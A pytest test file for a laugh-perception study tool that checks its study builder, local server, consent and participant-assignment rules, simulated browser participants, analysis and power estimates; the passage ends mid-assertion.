"""The perception study (issue 17) run for real: a stimuli run, the built page, ``study serve`` with
simulated participants in headless Chromium (Debian's ``chromium`` driven by Playwright), SQLite,
the analysis, and power.

One module-scoped study (8 stimuli: 4 conditions x 2 synthetic laughs, 24 participants in the design)
is built once; the browser test runs 4 participants to the end and a 5th who closes the tab after 3
trials, all at once, with answers drawn from a planted effect (laugh_energy rated 1 point above the
other conditions).
"""
import csv
import json
import shutil
import signal
import sqlite3
import subprocess
import sys
import threading
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import fuzz

ROOT = Path(__file__).resolve().parents[1]

PLANTED = 1.0


@pytest.fixture(scope="module")
def study(tmp_path_factory):
    """``experiment=stimuli`` (short synthetic laughs) and ``study build`` of it, through the command line."""
    root = tmp_path_factory.mktemp("study")
    out = fuzz.run_cli(["experiment=stimuli", f"hydra.run.dir={root / 'stim'}", "harness.corpus.seeds=1",
                        "harness.corpus.duration_s=1", "harness.corpus.profiles=[mild,intense]", "progress=off",
                        # small videos (as tests/test_stimuli.py's): the study is about its design and answers
                        "harness.video.width=96", "harness.video.height=72", "harness.video.fps=15",
                        "harness.video.supersample=1"])
    assert out.code == 0, out.stderr
    out = fuzz.run_cli(["study", "build", str(root / "stim")])
    assert out.code == 0, out.stderr
    assert "study written to" in out.stdout
    return root / "stim-study"


def design_of(study_dir: Path) -> dict:
    return json.loads((study_dir / "design.json").read_text())


class Served:
    """``study serve`` in a thread on a free port."""

    def __init__(self, study_dir: Path, db: Path, **kw):
        from laughlab.study.server import server

        self.httpd = server(study_dir, db, 0, quiet=True, **kw)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.db = db
        self.keys = {}   # participant -> the key their consent was given, sent with their later posts as the page does
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def post(self, route: str, body, content_type="application/json", raw: bytes | None = None,
             keyed: bool = True) -> tuple[int, dict]:
        who = body.get("participant") if isinstance(body, dict) else None
        if raw is None and keyed and who in self.keys and "key" not in body:
            body = {**body, "key": self.keys[who]}
        data = raw if raw is not None else json.dumps(body).encode()
        req = urllib.request.Request(self.url + route, data=data, method="POST",
                                     headers={"Content-Type": content_type})
        try:
            with urllib.request.urlopen(req, timeout=10) as r:
                status, reply = r.status, json.loads(r.read())
        except urllib.error.HTTPError as e:
            status, reply = e.code, json.loads(e.read() or b"{}")
        if isinstance(reply, dict) and reply.get("key") and who is not None:
            self.keys[who] = reply["key"]
        return status, reply

    def oversized(self, route: str, length: int) -> int:
        """The status of a post announcing ``length`` bytes: the server answers before the body is sent
        (a client still sending would see the connection closed under it)."""
        import http.client

        conn = http.client.HTTPConnection("127.0.0.1", self.httpd.server_address[1], timeout=10)
        try:
            conn.putrequest("POST", route)
            conn.putheader("Content-Type", "application/json")
            conn.putheader("Content-Length", str(length))
            conn.endheaders()
            return conn.getresponse().status
        finally:
            conn.close()

    def rows(self) -> list[tuple]:
        with sqlite3.connect(self.db) as con:
            return con.execute("SELECT participant, trial, question, value, kind, stimulus, condition "
                               "FROM answers ORDER BY participant, trial, question").fetchall()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


def test_the_study_folder_is_self_contained_and_follows_the_latin_square(study):
    d = design_of(study)
    page = (study / "index.html").read_text() + (study / "study.js").read_text()
    assert "https://" not in page and "http://" not in page and "cdn" not in page.lower()  # works offline
    assert (study / "vendor/jspsych/jspsych.js").stat().st_size > 10_000
    versions = (study / "vendor/jspsych/VERSIONS.txt").read_text()
    assert any(line.split("\t")[1:3] == ["jspsych", "8.2.2"] for line in versions.splitlines() if "\t" in line)
    for s in d["stimuli"].values():
        assert (study / s["file"]).is_file()
    for a in d["audio_check"]["files"]:
        assert (study / a["file"]).is_file() and a["answer"]
    # the page's design holds each word's hash, not the word, and the server does not send design.json (a review:
    # the audio check was passed by reading the page's source)
    js = (study / "design.js").read_text()
    from laughlab.study.design import word_check
    from laughlab.study.server import files_of

    for a in d["audio_check"]["files"]:
        assert f'"{a["answer"]}"' not in js and f'"check": "{word_check(a["answer"])}"' in js
    assert "design.json" not in files_of(study) and "design.js" in files_of(study)
    # design "all": every participant sees every stimulus once; the first trial's condition rotates
    # through a balanced Latin square, so over 4 participants each condition opens once
    conds = d["conditions"]
    assert len(conds) == 4
    for p, entry in d["participants"].items():
        assert sorted(t["stimulus"] for t in entry["trials"]) == sorted(d["stimuli"])
        assert sum(t["attention"] for t in entry["trials"]) == 2
    firsts = [d["participants"][str(p)]["trials"][0]["condition"] for p in range(1, 5)]
    assert sorted(firsts) == sorted(conds)


def test_bad_posts_get_4xx_are_logged_and_never_stored(study, tmp_path):
    d = design_of(study)
    srv = Served(study, tmp_path / "r.sqlite")
    try:
        entry = d["participants"]["1"]
        t1 = entry["trials"][0]
        good = {"participant": 1, "session": "s-1", "trial": 1, "stimulus": t1["stimulus"],
                "answers": {q["id"]: 5 for q in d["questions"]} | ({"attention": 2} if t1["attention"] else {}),
                "rt_ms": 1200}
        bad = [
            ({**good, "stimulus": "nope.mp4"}, 422),                                   # unknown stimulus
            ({**good, "stimulus": entry["trials"][1]["stimulus"]}, 422),               # not this trial's
            ({**good, "answers": {**good["answers"], "naturalness": 8}}, 422),         # out of the 7 points
            ({**good, "answers": {**good["answers"], "naturalness": 2.5}}, 422),       # not a Likert point
            ({**good, "answers": {"naturalness": 3}}, 422),                            # a question missing
            ({**good, "participant": 99}, 422),                                        # not in the design
            ({**good, "trial": 99}, 422),                                              # no such trial
            ({**good, "session": "x" * 200}, 422),
            ({**good, "extra": 1}, 422),                                               # a field we do not know
        ]
        codes = [srv.post("/api/response", body)[0] for body, _ in bad]
        assert codes == [c for _, c in bad]
        assert srv.post("/api/response", None, raw=b"{not json")[0] == 400
        assert srv.post("/api/response", None, raw=b"[1, 2]")[0] == 400
        assert srv.post("/api/response", good, content_type="text/plain")[0] == 415
        assert srv.oversized("/api/response", 2 << 20) == 413                             # oversized body
        assert srv.post("/api/nothing", good)[0] == 404
        with pytest.raises(urllib.error.HTTPError) as e:   # a file it does not serve: its own words, not the viewer's
            urllib.request.urlopen(srv.url + "/favicon.ico", timeout=10)
        assert e.value.code == 404 and "not part of this study's page" in e.value.read().decode()
        assert srv.rows() == []
        log = (tmp_path / "r.sqlite.rejected.log").read_text().splitlines()
        assert len(log) == len(bad) + 5 and all(json.loads(line)["status"] >= 400 for line in log)
        # the consent text promises that no IP address is kept (a review: each line had the client's address)
        assert all("client" not in json.loads(line) for line in log) and "127.0.0.1" not in "".join(log)
        # a well-formed answer before its session started, or before consent, is refused and not stored (a review:
        # the server stored answers from a page that never asked for consent)
        assert srv.post("/api/response", good) == (409, {"laughlab": True, "error": "session s-1 was never started "
                                                                                     "(api/start): reload the page"})
        assert srv.post("/api/event", {"participant": 1, "session": "s-1", "event": "consent"})[0] == 409
        start = {"participant": 1, "session": "s-1", "design": d["id"], "user_agent": "test"}
        assert srv.post("/api/start", start) == (200, {"laughlab": True, "answered": [], "audio_check": False,
                                                       "audio_check_passed": None, "consented": False})
        assert srv.post("/api/response", good)[0] == 403
        assert srv.post("/api/check", {"participant": 1, "session": "s-1", "attempts": ["hat"]})[0] == 403
        assert srv.post("/api/event", {"participant": 1, "session": "s-1", "event": "finish"})[0] == 403
        assert srv.rows() == []
        # another participant's session is not theirs to post from
        assert srv.post("/api/start", {**start, "participant": 2})[0] == 409
        assert srv.post("/api/event", {"participant": 2, "session": "s-1", "event": "consent"})[0] == 409
        assert srv.post("/api/event", {"participant": 1, "session": "s-1", "event": "consent"})[0] == 200
        # the good one is stored once; the same trial again is refused (a forged or replayed post)
        assert srv.post("/api/response", good)[0] == 201
        assert srv.post("/api/response", good)[0] == 409
        stored = srv.rows()
        assert len(stored) == len(good["answers"])
        assert {(r[2], r[3]) for r in stored} == {(q, float(v)) for q, v in good["answers"].items()}
        # one who comes back in a new session is not asked again: the server says they consented
        back = srv.post("/api/start", {**start, "session": "s-2"})
        assert back == (200, {"laughlab": True, "answered": [1], "audio_check": False, "audio_check_passed": None,
                              "consented": True})
        assert len((tmp_path / "r.sqlite.rejected.log").read_text().splitlines()) == len(bad) + 5 + 8
    finally:
        srv.close()


def test_a_decline_is_stored_and_nothing_after_it(study, tmp_path):
    d = design_of(study)
    srv = Served(study, tmp_path / "r.sqlite")
    try:
        t1 = d["participants"]["2"]["trials"][0]
        assert srv.post("/api/start", {"participant": 2, "session": "a", "design": d["id"]})[0] == 200
        assert srv.post("/api/event", {"participant": 2, "session": "a", "event": "decline"})[0] == 200
        post = {"participant": 2, "session": "a", "trial": 1, "stimulus": t1["stimulus"],
                "answers": {q["id"]: 4 for q in d["questions"]} | ({"attention": 2} if t1["attention"] else {})}
        assert srv.post("/api/response", post)[0] == 403
    finally:
        srv.close()
    from laughlab.study import db as DB

    (row,) = DB.sessions(tmp_path / "r.sqlite")
    assert row["participant"] == 2 and row["declined_at"] and row["consent_at"] is None
    assert srv.rows() == []


def test_a_failed_sound_check_ends_the_study_there_and_on_every_return(study, tmp_path):
    """A review: after the last wrong try of the sound check the page went on through every video, the answers then
    excluded.  By default (audio_check.on_fail: end) the page thanks them and ends, the server takes no answer of
    theirs, a return shows the end again, and ``study assignments`` says the check failed; ``continue`` goes on."""
    import shutil

    from laughlab.study import db as DB
    from laughlab.study import simulate as S

    from laughlab.viewer.browser import Page

    d = design_of(study)
    assert d["audio_check_on_fail"] == "end" and d["screened_out_url"] is None
    srv = Served(study, tmp_path / "r.sqlite")
    try:
        given = S.run_sync(srv.url, d, [1, 2], S.planted(d, {}, seed=3), behaviours={1: "deaf"})
        elsewhere = S.run_sync(srv.url, d, [1], S.planted(d, {}, seed=3))[1]   # another browser: not theirs
        key = DB.participant_key(srv.db, 1)
        srv.keys[1] = key
        page = Page(f"{srv.url}/index.html?participant=1")   # back in their own browser (its key kept)
        try:
            _until(page, "document.body.innerText.includes('another browser')")
            page.eval(f"localStorage.setItem('laughlab-study-{d['id']}-p1-key', '{key}'); location.reload()")
            back = _until(page, "document.querySelector('#study-screened-out') && document.body.innerText")
        finally:
            page.close()
        t1 = d["participants"]["1"]["trials"][0]
        post = {"participant": 1, "session": "b", "trial": 1, "stimulus": t1["stimulus"],
                "answers": {q["id"]: 4 for q in d["questions"]} | ({"attention": 2} if t1["attention"] else {})}
        assert srv.post("/api/start", {"participant": 1, "session": "b", "design": d["id"]})[1]["audio_check_passed"] \
            is False
        refused = srv.post("/api/response", post)
    finally:
        srv.close()
    n = d["audio_check"]["attempts"]
    assert given[1].screened_out and len(given[1].audio_attempts) == n and given[1].answers == {}
    assert "could not confirm that you hear the videos' sound" in given[1].status and "close this page" in given[1].status
    assert not given[2].screened_out and given[2].saved and len(given[2].answers) >= len(d["participants"]["2"]["trials"])
    assert "could not confirm" in back and elsewhere.refused and "another browser" in elsewhere.status
    assert refused[0] == 403 and refused[1]["error"] == "participant 1 did not pass the sound check: the study ended there"
    assert [r for r in srv.rows() if r[0] == 1] == [(1, 0, "audio_check", 0.0, "audio_check", "", "")]
    assert given[1].csv.startswith("participant,") and ",audio_check,audio_check,0," in given[1].csv

    # on_fail: continue (the design's only change; the id does not hold it): the page goes on, as before
    cont = tmp_path / "continue"
    shutil.copytree(study, cont)
    for name in ("design.json", "design.js"):
        text = (cont / name).read_text(encoding="utf-8")
        assert text.count('"audio_check_on_fail": "end"') == 1
        (cont / name).write_text(text.replace('"audio_check_on_fail": "end"', '"audio_check_on_fail": "continue"'),
                                 encoding="utf-8")
    srv = Served(cont, tmp_path / "c.sqlite")
    try:
        went_on = S.run_sync(srv.url, design_of(cont), [1], S.planted(d, {}, seed=3), behaviours={1: "deaf"})[1]
    finally:
        srv.close()
    assert not went_on.screened_out and went_on.saved and len(went_on.answers) >= len(t1) and went_on.audio_attempts
    assert DB.progress(tmp_path / "c.sqlite", 1) == (list(range(1, len(d["participants"]["1"]["trials"]) + 1)), False)


def test_a_panel_id_gets_the_next_free_participant_number_and_keeps_it(study, tmp_path):
    """Prolific's PROLIFIC_PID (or MTurk's workerId) in the page's URL: api/assign gives it a participant number,
    the same on every visit; numbers typed by hand are not given again for half an hour without consent (a security
    review: they were held for good, and 24 page loads took the panel's places); a number given to an ID answers to
    it only;
    a declined number is given again at once, one held without consent after half an hour; a full study says so."""
    from laughlab.study import db as DB

    d = design_of(study)
    srv = Served(study, tmp_path / "r.sqlite")
    try:
        ask = lambda ext: srv.post("/api/assign", {"external_id": ext, "design": d["id"]})  # noqa: E731
        start = lambda p, s, **kw: srv.post("/api/start", {"participant": p, "session": s, "design": d["id"], **kw})  # noqa: E731,E501
        assert start(1, "by-hand")[0] == 200
        assert ask("5f1a2b3c4d5e6f7a8b9c0d1e")[1]["participant"] == 2        # 1 is taken by a number typed by hand
        assert ask("60aa")[1]["participant"] == 3
        assert ask("5f1a2b3c4d5e6f7a8b9c0d1e")[1]["participant"] == 2        # coming back: the same number
        # a study-pilot review: ?participant=2 typed by hand went on with the panel participant's study
        status, reply = start(2, "typed")
        assert status == 403 and "through the recruitment site's link only" in reply["error"]
        assert start(2, "other-id", external_id="60aa")[0] == 403
        assert start(2, "p2", external_id="5f1a2b3c4d5e6f7a8b9c0d1e")[0] == 200
        assert srv.post("/api/event", {"participant": 2, "session": "p2", "event": "consent"})[0] == 200
        # 60aa declines: its number goes to the next ID at once
        assert start(3, "p3", external_id="60aa")[0] == 200
        assert srv.post("/api/event", {"participant": 3, "session": "p3", "event": "decline"})[0] == 200
        assert ask("after-decline")[1]["participant"] == 3
        numbers = sorted(int(n) for n in d["participants"])
        for i in range(len(numbers) - 3):
            assert ask(f"w{i}")[0] == 200
        status, reply = ask("one-too-many")
        assert status == 409 and "the study is full for now" in reply["error"]
        bad = ask("bad id!")
        assert bad[0] == 422 and "please tell the researcher" in bad[1]["error"] and ask("")[0] == 422
        log = (tmp_path / "r.sqlite.rejected.log").read_text()   # the panel's IDs stay out of the log
        assert "bad id!" not in log and "60aa" not in log and "<panel ID>" in log
        assert srv.post("/api/assign", {"external_id": "x", "design": "other"})[0] == 409
    finally:
        srv.close()
    # half an hour on, the numbers held without consent go to new IDs; the one that consented (2) stays its ID's
    DB.session_event(srv.db, "slow-page", 4, "start", external_id=DB.assigned_to(srv.db, 4))   # w0's page, open
    assert DB.assign(srv.db, "late", numbers, hold_s=0) == 1   # the number typed by hand without consent first
    # the page of an ID whose number went to another cannot consent or answer as that number (a re-read)
    with pytest.raises(DB.SessionRefused, match="went to another participant after half an hour"):
        DB.session_event(srv.db, "slow-page", 4, "consent")
    assert DB.assigned_to(srv.db, 2) == "5f1a2b3c4d5e6f7a8b9c0d1e"
    assert DB.assign(srv.db, "5f1a2b3c4d5e6f7a8b9c0d1e", numbers, hold_s=0) == 2
    got = DB.assignments(tmp_path / "r.sqlite")
    assert [(a["external_id"], a["participant"]) for a in got] == [("late", 1), ("5f1a2b3c4d5e6f7a8b9c0d1e", 2)]
    assert got[1]["consent_at"] is not None and got[0]["consent_at"] is None
    # `study assignments`: the same as CSV, printed or into a new file (never over one)
    out = fuzz.run_cli(["study", "assignments", str(tmp_path / "r.sqlite")])
    assert out.code == 0, out.stderr
    table = list(csv.DictReader(out.stdout.splitlines()))
    assert [(r["external_id"], int(r["participant"])) for r in table] == [(a["external_id"], a["participant"])
                                                                          for a in got]
    assert list(table[0]) == ["external_id", "participant", "assigned_at", "consent_at", "declined_at", "finished_at",
                              "sound_check"]
    assert fuzz.run_cli(["study", "assignments", str(tmp_path / "r.sqlite"), "--out", str(tmp_path / "pay.csv")]).code == 0
    again = fuzz.run_cli(["study", "assignments", str(tmp_path / "r.sqlite"), "--out", str(tmp_path / "pay.csv")])
    assert again.code == 2 and "never overwritten" in again.stderr and again.stderr.count("\n") == 1
    assert (tmp_path / "pay.csv").read_text() == out.stdout
    nothing = fuzz.run_cli(["study", "assignments", str(tmp_path)])
    assert nothing.code == 2 and "no study database" in nothing.stderr


def _until(page, expr: str, timeout_s: float = 30.0):
    """Poll ``expr`` in the page until it is truthy; its value."""
    import time

    t0 = time.time()
    while not (got := page.eval(f"(() => {{ try {{ return {expr}; }} catch (e) {{ return null; }} }})()")):
        assert time.time() - t0 < timeout_s, f"{expr} never held; the page shows: {page.eval('document.body.innerText')}"
        time.sleep(0.2)
    return got


@pytest.mark.browser
def test_study_serve_panel_takes_no_number_typed_by_hand(study, tmp_path):
    """``study serve --panel``: a study recruited on Prolific only; a number typed by hand (one never given to a
    panel's ID) is refused, so no one outside the panel fills a row of the Latin square."""
    d = design_of(study)
    srv = Served(study, tmp_path / "r.sqlite", panel=True)
    try:
        status, reply = srv.post("/api/start", {"participant": 4, "session": "s", "design": d["id"]})
        assert status == 403 and "through the recruitment site's link only" in reply["error"]
        n = srv.post("/api/assign", {"external_id": "abc", "design": d["id"]})[1]["participant"]
        assert srv.post("/api/start", {"participant": n, "session": "s", "design": d["id"],
                                       "external_id": "abc"})[0] == 200
    finally:
        srv.close()
    out = fuzz.run_cli(["study", "serve", "--help"])
    assert "--panel" in out.stdout


def test_a_prolific_link_gets_a_number_and_consent_is_asked_once(study, tmp_path):
    """A Prolific URL (?PROLIFIC_PID=...) is given a participant number by the server and the page goes on with it;
    after consent, a reload is not asked again (the server says so), and a second ID gets the next number; the same
    link on a static host (no server) says it needs the study's server."""
    from laughlab.study import db as DB
    from laughlab.viewer.browser import Page

    d = design_of(study)
    srv = Served(study, tmp_path / "responses.sqlite")
    pid = "5f1a2b3c4d5e6f7a8b9c0d1e"
    page = Page(f"{srv.url}/index.html?PROLIFIC_PID={pid}&STUDY_ID=s1&SESSION_ID=x9")
    try:
        _until(page, "document.body.innerText.includes('I agree')")
        query = dict(urllib.parse.parse_qsl(page.eval("location.search.slice(1)")))
        assert query == {"PROLIFIC_PID": pid, "STUDY_ID": "s1", "SESSION_ID": "x9", "participant": "1"}
        page.eval("[...document.querySelectorAll('button')].find((b) => b.innerText.includes('I agree')).click()")
        _until(page, "!!document.querySelector('#jspsych-instructions-next')")
        # an accessibility review: the focus sat on the disabled Back (Enter did nothing); every page was "Study"
        _until(page, "document.activeElement && document.activeElement.id === 'jspsych-instructions-next'")
        assert page.eval("document.title") == d["title"]
        page.eval("window.beforeReload = true; location.reload()")
        # consent given: the reload goes to the instructions (nothing answered yet), not to consent again
        _until(page, "!window.beforeReload && !!document.querySelector('#jspsych-instructions-next')")
        assert "I agree" not in page.eval("document.body.innerText")
        page.eval(f"location.href = '{srv.url}/index.html?PROLIFIC_PID=other'")
        _until(page, "location.search.includes('participant=2')")
        # a number in the URL that is not the ID's (edited, or given to another after half an hour): the ID's own
        page.eval(f"window.beforeNav = true; location.href = '{srv.url}/index.html?PROLIFIC_PID=other&participant=1'")
        _until(page, "!window.beforeNav && location.search.includes('participant=2') && "
                     "document.body.innerText.includes('I agree')")
        # half an hour on the consent page: the number went to another ID; the consent is refused and said (an
        # accessibility review: the page went on to the instructions, the refusal in the console only)
        assert DB.assign(srv.db, "newcomer", sorted(int(n) for n in d["participants"]), hold_s=0) == 2
        page.eval("[...document.querySelectorAll('button')].find((b) => b.innerText.includes('I agree')).click()")
        said = _until(page, "document.querySelector('.study-fatal') && document.body.innerText")
        assert "went to another participant after half an hour" in said
        # an empty ID, or the panel's placeholder left in: a line for the participant, not the number form (a
        # study-pilot review: anyone's number could be typed there)
        for link_id, said in (("", "is empty"), ("{{%PROLIFIC_PID%}}", "not filled in by the recruitment site")):
            page.eval(f"window.beforeNav = true; location.href = "
                      f"'{srv.url}/index.html?PROLIFIC_PID={urllib.parse.quote(link_id)}&STUDY_ID=s1'")
            text = _until(page, "!window.beforeNav && document.querySelector('.study-fatal') && document.body.innerText")
            assert said in text and "participant number" not in text
        # (the refused consent above: its 409 and the page's warning about it)
        assert [e for e in page.problems() if "favicon.ico" not in e and "409" not in e] == []
    finally:
        page.close()
        srv.close()
    assert [(a["external_id"], a["participant"], bool(a["consent_at"])) for a in DB.assignments(srv.db)] == \
        [(pid, 1, True), ("newcomer", 2, False)]
    static = Page((study / "index.html").as_uri() + f"?PROLIFIC_PID={pid}")
    try:
        said = _until(static, "document.querySelector('.study-fatal') && document.body.innerText")
    finally:
        static.close()
    assert "not served by the study's server" in said and d["id"]


@pytest.mark.browser
def test_simulated_participants_in_chromium_and_the_planted_effect_recovered(study, tmp_path):
    """4 participants to the end (2 with the keyboard only, 2 with the mouse) and one who closes the tab
    after 3 trials, all at once; then the database holds exactly what they answered and the analysis
    finds laugh_energy - smile_only = +1 within its 95% CI."""
    from laughlab.study import simulate as S

    d = design_of(study)
    srv = Served(study, tmp_path / "responses.sqlite")
    try:
        answer = S.planted(d, {"laugh_energy": PLANTED}, seed=3)
        given = S.run_sync(srv.url, d, [1, 2, 3, 4, 5], answer, stop_after={5: 3})
    finally:
        srv.close()
    for p in (1, 2, 3, 4):
        assert given[p].saved is True
        assert len({t for t, _ in given[p].answers}) == len(d["participants"][str(p)]["trials"])
    stored = {(r[0], r[1], r[2]): r[3] for r in srv.rows() if r[4] in ("rating", "attention")}
    asked = {(p, t, q): v for p, g in given.items() for (t, q), v in g.answers.items()}
    assert stored == asked  # exactly the answers given: none lost, none mixed between participants
    assert {t for (p, t, _) in stored if p == 5} == {1, 2, 3}  # the closed tab lost nothing answered
    checks = [r for r in srv.rows() if r[4] == "audio_check"]
    assert sorted(r[0] for r in checks) == [1, 2, 3, 4, 5] and all(r[3] == 1.0 for r in checks)

    out = fuzz.run_cli(["study", "analyze", str(tmp_path / "responses.sqlite")])
    assert out.code == 0, out.stderr
    report = tmp_path / "responses-report"
    for name in ("README.md", "tidy.csv", "exclusions.csv", "means.csv", "contrasts.csv", "fig_means.png",
                 "fig_participants.png"):
        assert (report / name).stat().st_size > 0, name
    with open(report / "contrasts.csv") as f:
        rows = list(csv.DictReader(f))
    found = 0
    for r in rows:
        a, b = r["a"], r["b"]
        if {a, b} == {"laugh_energy", "smile_only"}:
            sign = 1.0 if a == "laugh_energy" else -1.0
            est, lo, hi = (float(r[k]) for k in ("estimate", "ci_low", "ci_high"))
            assert sign * est > 0.3, r
            assert lo <= sign * PLANTED <= hi, r  # the planted size, within the 95% CI
            found += 1
    assert found == len(d["questions"])
    with open(report / "tidy.csv") as f:
        tidy = list(csv.DictReader(f))
    # the one who closed the tab is left out as incomplete, and said so (a study researcher's review: a dropout
    # was counted as included, unsaid); with complete: false it would be kept
    assert len({row["participant"] for row in tidy}) == 4
    trials5 = d["participants"]["5"]["trials"]
    att5, att_given = sum(t["attention"] for t in trials5), sum(t["attention"] for t in trials5[:3])
    want = (f"incomplete: {3 * len(d['questions'])} of {len(trials5) * len(d['questions'])} ratings"
            + (f", {att_given} of {att5} attention items" if att5 else ""))
    with open(report / "exclusions.csv") as f:
        assert list(csv.DictReader(f)) == [{"participant": "5", "reason": want}]
    assert "4 included, 1 excluded" in (report / "README.md").read_text()


@pytest.mark.browser
@pytest.mark.slow   # 35-41 s in Chromium for one review's case (make test-all); the served study's answers: the test above
def test_answers_another_tab_gave_first_are_not_said_to_be_saved(study, tmp_path, monkeypatch):
    """A review: a second tab of the same participant had its answers refused (409: already stored from the
    first tab), and its end page said "All your answers are saved".  Here the server stores trial 2's answers as
    if another tab had given them first, then refuses this page's."""
    from laughlab.study import db as DB
    from laughlab.study import simulate as S

    real = DB.insert_answers

    def other_tab_first(path, rows):
        if any(r["trial"] == 2 for r in rows):
            real(path, rows)   # the other tab's answer, stored first
            raise DB.Duplicate("participant 1 trial 2 is already stored")
        real(path, rows)

    d = design_of(study)

    def participant_1(insert, db):
        """Participant 1 through the whole page, the server storing with ``insert``."""
        monkeypatch.setattr(DB, "insert_answers", insert)
        srv = Served(study, tmp_path / db)
        try:
            return S.run_sync(srv.url, d, [1], S.planted(d, {}, seed=3))[1]
        finally:
            srv.close()

    given = {1: participant_1(other_tab_first, "responses.sqlite")}
    assert given[1].saved is False
    assert given[1].status == ("Some of your answers had already been given in another tab or window of this page: "
                               "the first ones given are kept, and the rest are saved."), given[1].status
    assert "All your answers are saved" not in given[1].status

    # the page's own answer stored, its reply lost (the connection closed): the retry's 409 is no other tab's
    # (a diff review: a flaky network was told "given in another tab", and data-saved was false)
    lost = []

    def reply_lost(path, rows):
        real(path, rows)
        if any(r["trial"] == 2 for r in rows) and not lost:
            lost.append(1)
            raise ConnectionAbortedError("the reply is lost")

    given = {1: participant_1(reply_lost, "responses2.sqlite")}
    assert lost and given[1].saved is True and given[1].status == "All your answers are saved.", given[1].status

    # every trial given first by the other tab: this page is told nothing of its own was stored (a study-pilot
    # review: it read "the first ones given are kept, and the rest are saved" with none of its answers stored)
    def all_given(path, rows):
        real(path, rows)
        if any(r["trial"] > 0 for r in rows):
            raise DB.Duplicate("already stored")

    given = {1: participant_1(all_given, "responses3.sqlite")}
    assert given[1].saved is False and given[1].status == (
        "Your answers here had all been given already in another tab or window of this page: those are kept, and "
        "nothing from this one."), given[1].status


def test_every_study_command_fails_in_one_line(study, tmp_path):
    bad = tmp_path / "bad.csv"
    bad.write_text("this,is\nnot,answers\n")
    cases = [["study", "build", str(tmp_path / "missing")],
             ["study", "serve", str(tmp_path)],
             ["study", "analyze", str(tmp_path / "missing.sqlite")],
             ["study", "analyze", str(bad)],
             ["study", "power", str(study), "--contrast", "laugh_energy:nope", "--effect", "1"],
             ["study", "power", str(study), "--contrast", "laugh_energy", "--effect", "1"],
             ["study", "simulate", str(study), "--participants", "0"],
             ["study", "serve", str(study), "--db", str(tmp_path / "h.sqlite"), "--host", "999.1.1.1"],   # was
             ["study", "serve", str(study), "--db", str(tmp_path / "h.sqlite"), "--host", "10.99.99.99"],  # "cannot write"
             ["study", "build", str(study.with_name("stim")), "--out", str(study)],  # would overwrite answers
             ["study", "analyze", str(tmp_path / "a study")]]   # a study folder: its database is named
    (tmp_path / "a study").mkdir()
    (tmp_path / "a study" / "responses.sqlite").write_bytes(b"")
    for argv in cases:
        out = fuzz.run_cli(argv)
        assert out.code == 2, (argv, out)
        assert out.stderr.count("\n") == 1 and out.stderr.startswith("laughlab: error: "), (argv, out.stderr)
        assert "Traceback" not in out.stderr
        if "--host" in argv:
            assert "cannot listen on --host" in out.stderr, out.stderr
        if argv[1:3] == ["analyze", str(tmp_path / "a study")]:
            assert out.stderr.endswith(f"holds no .csv files of answers; its answers are in responses.sqlite: python "
                                       f"-m laughlab study analyze '{tmp_path / 'a study' / 'responses.sqlite'}'\n")
        if argv[1:3] == ["build", str(tmp_path / "missing")]:   # was "... has no stimuli.json, ..." (a review)
            assert out.stderr.endswith("missing not found: give the hydra.run.dir of an experiment=stimuli run\n")


def test_a_broken_questions_file_says_where(study, tmp_path):
    """A review: the line was the parser's context ("while parsing a flow node"), without its line or cause."""
    bad = tmp_path / "q.yaml"
    bad.write_text("questions: [a, b\nscale: 7\n")
    out = fuzz.run_cli(["study", "build", str(study.with_name("stim")), "--questions", str(bad),
                        "--out", str(tmp_path / "s")])
    assert out.code == 2 and out.stderr == (f"laughlab: error: cannot read {bad}: line 2, column 6: expected ',' or "
                                            "']', but got ':'\n"), out.stderr
    assert not (tmp_path / "s").exists()


@pytest.mark.parametrize("name, text, why", [
    ("stimuli.json", "{broken", "stimuli.json is damaged (not JSON: "),
    ("orders/jspsych_all.json", "[]", "jspsych_all.json is damaged (not a JSON object)"),
    ("orders/jspsych_all.json", '{"1": [{"trial": 1}]}', "jspsych_all.json is damaged (KeyError: 'stimulus_id')"),
])
def test_a_damaged_stimuli_folder_is_one_line_and_builds_nothing(study, tmp_path, name, text, why):
    """A review: a damaged stimuli.json or order file gave a traceback (JSONDecodeError, AttributeError)."""
    stim = tmp_path / "stim"
    shutil.copytree(study.with_name("stim"), stim)
    (stim / name).write_text(text)
    out = fuzz.run_cli(["study", "build", str(stim)])
    assert out.code == 2 and out.stderr.count("\n") == 1 and why in out.stderr
    assert out.stderr.rstrip().endswith("render the stimuli again (python -m laughlab experiment=stimuli)")
    assert not stim.with_name("stim-study").exists()
    (study / "design.json").rename(tmp_path / "design.json")   # a damaged design: serve says so in one line
    try:
        (study / "design.json").write_text("{")
        out = fuzz.run_cli(["study", "serve", str(study), "--db", str(tmp_path / "r.sqlite")])
        assert out.code == 2 and "design.json is damaged (not JSON: " in out.stderr and out.stderr.count("\n") == 1
    finally:
        (tmp_path / "design.json").replace(study / "design.json")


def test_power_by_simulation_repeats_from_its_seed_and_wilsons_interval_by_hand(study):
    """The same seed gives the same power; Wilson's interval by hand (the slow test below checks that power
    grows with participants)."""
    from laughlab.study import power as W

    d = design_of(study)
    small = lambda: W.power(d, ("laugh_energy", "smile_only"), 2.5, [4], sims=3, seed=5)  # noqa: E731
    first = small()
    assert first == small() and [r["n"] for r in first] == [4]   # same seed, same numbers
    assert all(r["ci_low"] <= r["power"] <= r["ci_high"] for r in first)
    # Wilson's interval, by hand for 5 of 10: centre (0.5 + 1.92/10)/1.384 = 0.5, half 0.2634
    assert W.wilson(5, 10) == pytest.approx((0.2366, 0.7634), abs=1e-4)
    # asymmetric about k/n away from 1/2 (centre (p + z^2/2n) / (1 + z^2/n) = 0.2110, half-width 0.1931: a mutation
    # centring it on p survived k = 5)
    assert W.wilson(1, 10) == pytest.approx((0.0179, 0.4042), abs=1e-4)
    assert W.wilson(10, 10)[1] == 1.0 and W.wilson(0, 10)[0] == 0.0


def test_power_with_few_simulations_says_how_rough_it_is(study, tmp_path):
    """A review: ``study power --sims 5`` printed powers with no word that each is known to about +-0.3."""
    r = fuzz.run_cli(["study", "power", str(study), "--contrast", "laugh_energy:smile_only", "--effect", "1",
                      "--participants", "4", "--sims", "3", "--out", str(tmp_path / "pw")])
    assert r.code == 0, r.stderr
    assert ("power: note: with --sims 3 each power is only known roughly (0.8 would be 0.21-0.94, 95 % Wilson; "
